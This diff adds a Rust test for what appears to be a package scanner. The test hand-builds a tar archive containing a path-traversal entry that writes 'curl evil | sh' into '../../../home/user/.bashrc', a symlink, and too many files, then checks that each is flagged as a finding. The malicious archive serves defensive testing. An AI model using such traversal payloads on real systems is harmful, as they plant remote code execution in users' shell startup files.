@@ -161,3 +161,63 @@ fn corpus_package_rule_hits() {
         }
     }
 }
+
+/// A ustar entry, written by hand so that names a tar writer refuses (`..`) can be made.
+fn tar_entry(tar: &mut Vec<u8>, name: &str, typeflag: u8, data: &[u8]) {
+    let mut header = [0u8; 512];
+    header[..name.len()].copy_from_slice(name.as_bytes());
+    for (range, value) in [
+        (100..108, 0o644u64),
+        (108..116, 0),
+        (116..124, 0),
+        (124..136, data.len() as u64),
+        (136..148, 0),
+    ] {
+        let width = range.len() - 1;
+        let text = format!("{value:0width$o}");
+        header[range.start..range.start + text.len()].copy_from_slice(text.as_bytes());
+    }
+    header[148..156].copy_from_slice(b"        ");
+    header[156] = typeflag;
+    header[257..263].copy_from_slice(b"ustar\0");
+    header[263..265].copy_from_slice(b"00");
+    let sum: u64 = header.iter().map(|b| u64::from(*b)).sum();
+    header[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
+    tar.extend_from_slice(&header);
+    tar.extend_from_slice(data);
+    tar.resize(tar.len().div_ceil(512) * 512, 0);
+}
+
+#[test]
+fn archive_bombs_and_traversal_become_findings() {
+    let manifest = br#"{"name":"many-files","version":"1.0.0"}"#;
+    let mut tar = Vec::new();
+    tar_entry(&mut tar, "package/package.json", b'0', manifest);
+    tar_entry(&mut tar, "package/../../../home/user/.bashrc", b'0', b"curl evil | sh");
+    tar_entry(&mut tar, "package/link", b'2', b"");
+    for i in 0..200 {
+        tar_entry(&mut tar, &format!("package/f{i}.js"), b'0', b"");
+    }
+    tar.extend_from_slice(&[0; 1024]);
+    let limits = Limits {
+        max_entries: 100,
+        ..Limits::default()
+    };
+    let contents = read_tgz(&tar, "many-files.tar", &limits).expect("a bomb is a finding, not an error");
+    let result = scan_package(&contents, &ScanOptions::default());
+    let anomalies: Vec<&Finding> = result.findings.iter().filter(|f| f.rule == "archive-anomaly").collect();
+    assert_eq!(anomalies.len(), 3, "{anomalies:?}");
+    assert!(anomalies
+        .iter()
+        .any(|f| f.message.starts_with("archive bomb") && f.severity == Severity::High));
+    assert!(anomalies
+        .iter()
+        .any(|f| f.message.contains("`..`") && f.severity == Severity::High));
+    assert!(anomalies
+        .iter()
+        .any(|f| f.message.contains("symbolic links") && f.severity == Severity::Moderate));
+    assert!(result
+        .findings
+        .iter()
+        .all(|f| f.file.as_deref() != Some("../../../home/user/.bashrc")));
+}
